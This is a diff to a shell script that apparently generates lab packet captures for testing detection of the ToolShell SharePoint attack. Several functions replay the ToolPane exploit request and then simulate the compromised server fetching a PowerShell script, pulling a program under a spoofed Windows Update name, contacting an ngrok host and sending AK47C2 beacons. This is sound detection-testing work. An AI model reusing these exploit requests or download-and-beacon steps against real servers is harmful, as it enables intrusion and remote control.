@@ -474,6 +474,85 @@ if wants keys-used; then
     "$CURL_V, server.py; recorded one after the other, times set to the pieces" "toolshell.machinekey-leak once, toolshell.keys-used once" "toolshell.takeover"
 fi
 
+# Two recordings of one server: attacked at 10:00, and later, as a client, whatever the function does.
+later() { # CASE TIME FUNCTION
+  SC_CASE=$1
+  say "toolshell/$1"
+  left_ip 10.77.1.66
+  serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80; WEBS=$SC_SERVER
+  rec "$SC_TMP/l1.raw"
+  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx --interface 10.77.1.66
+  rec_end
+  unserve "$WEBS"
+  left_ip 10.77.3.80; left_ip 10.77.3.81; left_ip 10.77.3.53; right_ip 10.77.2.11
+  serve left 80 "$PY" "$SC_HERE/server.py" payload 80; WEBS=$SC_SERVER
+  sed "s/listen-address=.*/listen-address=10.77.3.53/" "$SC_TMP/dns.conf" >"$SC_TMP/dns2.conf"
+  printf 'address=/ctldl.windowsupdate.com/10.77.3.81\n' >>"$SC_TMP/dns2.conf"
+  serve left 53 dnsmasq -C "$SC_TMP/dns2.conf" --pid-file="$SC_TMP/dnsmasq2.pid"; DNSS=$SC_SERVER
+  rec "$SC_TMP/l2.raw"
+  "$3"
+  rec_end
+  unserve "$WEBS"; unserve "$DNSS"
+  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/$1.pcap" 2025-07-19T10:00:00Z "$SC_TMP/l1.raw" "$2" "$SC_TMP/l2.raw"
+}
+LATER="$CURL_V, server.py; recorded one after the other, times set to the pieces"
+out() { right curl -q -s -S -o /dev/null --noproxy '*' --max-time 20 "$@"; }
+POWERSHELL='Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.1'
+fetch() { out -A "$POWERSHELL" "http://10.77.3.80/a/run.ps1"; out -A '' "http://10.77.3.80/img/logo.dat"; }
+beacon() { $SHAPES ak47-http >"$SC_TMP/ak"; out -A '' -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/ak" "$@"; }
+
+if wants chain-gap; then
+  known_host() { out --resolve "c34718cbb4c6.ngrok-free.app:80:10.77.3.80" -A "$POWERSHELL" http://c34718cbb4c6.ngrok-free.app/; }
+  later chain-gap 2025-07-21T16:30:00Z known_host
+  note "ToolShell: the request, and two days later a published host" \
+    "the exploit request; two days later the server itself asks a published delivery host. Neither key theft nor view state is in the recording" \
+    "$LATER" "toolshell.takeover once, with two of four stages, half the confidence and the missing stages named" "toolshell.hit-download"
+fi
+if wants chain-http; then
+  home() { beacon http://10.77.3.80/; }
+  later chain-http 2025-07-20T01:00:00Z home
+  note "ToolShell: the request, then AK47C2 over HTTP" "the exploit request; fifteen hours later the server posts an AK47C2 message to a bare address" \
+    "$LATER" "toolshell.takeover once, toolshell.ak47-http once" "-"
+fi
+if wants chain-near; then
+  other() { beacon --interface 10.77.2.11 http://10.77.3.80/; }
+  later chain-near 2025-07-19T10:20:00Z other
+  note "Near miss: one server is attacked, another one beacons" "the exploit request to 10.77.2.10; AK47C2 over HTTP from 10.77.2.11" \
+    "$LATER" "toolshell.toolpane-signout and toolshell.ak47-http" "toolshell.takeover, toolshell.hit-download"
+fi
+if wants hit-download; then
+  later hit-download 2025-07-19T10:02:00Z fetch
+  note "ToolShell: what the attacked server fetches" \
+    "the exploit request; two minutes later the server fetches a PowerShell script, and a program under another name, from a bare address" \
+    "$LATER" "toolshell.hit-download once, for both, toolshell.takeover once" "-"
+fi
+if wants hit-update; then
+  spoof() { out --resolve "ctldl.windowsupdate.com:80:10.77.3.80" -A 'Microsoft-CryptoAPI/10.0' http://ctldl.windowsupdate.com/msdownload/update/tool.exe; }
+  later hit-update 2025-07-19T10:02:00Z spoof
+  note "ToolShell: the attacked server fetches a program as if from Windows Update" \
+    "the exploit request; then a download with the Host field of an update service from an address that name was never looked up to be" \
+    "$LATER" "toolshell.hit-download once" "-"
+fi
+if wants hit-download-near; then
+  ordinary() {
+    out --interface 10.77.2.11 -A "$POWERSHELL" "http://10.77.3.80/a/run.ps1"
+    right dig +time=2 +tries=1 +noedns @10.77.3.53 ctldl.windowsupdate.com A >/dev/null
+    out --resolve "ctldl.windowsupdate.com:80:10.77.3.81" -A 'Microsoft-CryptoAPI/10.0' http://ctldl.windowsupdate.com/msdownload/update/kb.exe
+    out --resolve "crl.example.net:80:10.77.3.81" -A 'Microsoft-CryptoAPI/10.0' http://crl.example.net/pki/inert.crl
+  }
+  later hit-download-near 2025-07-19T10:02:00Z ordinary
+  rec "$SC_TMP/l3.raw"
+  serve left 80 "$PY" "$SC_HERE/server.py" payload 80; WEBS=$SC_SERVER
+  out -A "$POWERSHELL" "http://10.77.3.80/a/run.ps1"
+  rec_end
+  unserve "$WEBS"
+  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/hit-download-near.pcap" 2025-07-19T10:00:00Z "$SC_TMP/l1.raw" \
+    2025-07-19T10:02:00Z "$SC_TMP/l2.raw" 2025-07-19T10:31:00Z "$SC_TMP/l3.raw"
+  note "Near miss: ordinary downloads around an attack" \
+    "the exploit request to 10.77.2.10; then another server fetches a script; the attacked one looks up an update service and fetches a program there, and a list of revoked certificates from somewhere; after half an hour it fetches a script" \
+    "$LATER, $DIG_V, $DNSMASQ_V" "-" "toolshell.hit-download"
+fi
+
 if wants chain; then
   SC_CASE=chain
   say toolshell/chain
